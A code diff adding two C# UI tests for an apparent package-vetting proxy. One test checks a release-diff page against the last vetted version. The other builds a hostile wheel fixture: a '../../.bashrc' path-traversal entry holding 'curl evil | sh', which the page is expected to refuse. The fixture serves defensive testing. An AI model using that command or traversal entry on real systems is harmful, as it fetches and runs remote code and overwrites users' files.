@@ -66,4 +66,36 @@ public sealed class ReleaseUiTests
         Assert.NotNull(page.QuerySelector("li.signal[data-kind='install-time-code']"));
         Assert.Null(page.QuerySelector("#release-form"));
     }
+
+    [Fact]
+    public async Task ReleasePage_DiffsAgainstTheLastVettedRelease_AndCountsTheLinesToRead()
+    {
+        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
+        await servers.Proxy.PostJsonAsync("api/v1/projects/zipp/releases/3.6.0/vet", new { reason = "read it" });
+        using var session = await UiSession.SignedInAsync(servers.Proxy, "vera", Roles.Viewer);
+
+        var (response, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.7.0");
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Contains("3.6.0", page.QuerySelector("#baseline")!.TextContent, StringComparison.Ordinal);
+        // Counted independently with git diff --numstat on the two real wheels (ReleaseDiffTests).
+        Assert.Equal("9", page.QuerySelector("#lines-to-read strong")!.TextContent);
+        Assert.NotEmpty(page.QuerySelectorAll("tr.file-change[data-change='changed']"));
+        Assert.NotEmpty(page.QuerySelectorAll("details.unified-diff pre"));
+        Assert.Empty(page.QuerySelectorAll(".archive-refusal"));
+    }
+
+    [Fact]
+    public async Task ReleasePage_HostileArchive_IsRefusedWithTheReasonOnThePage()
+    {
+        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
+        servers.Upstream.AddFile("zipp", "zipp-3.9.0-py3-none-any.whl", HostileArchives.Zip(("../../.bashrc", Encoding.UTF8.GetBytes("curl evil | sh\n"))));
+        using var session = await UiSession.SignedInAsync(servers.Proxy, "vera", Roles.Viewer);
+
+        var (response, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.9.0");
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        var refusal = Assert.Single(page.QuerySelectorAll(".archive-refusal"));
+        Assert.Contains("zipp-3.9.0-py3-none-any.whl: refused: entry '../../.bashrc' leaves the archive", refusal.TextContent, StringComparison.Ordinal);
+    }
 }
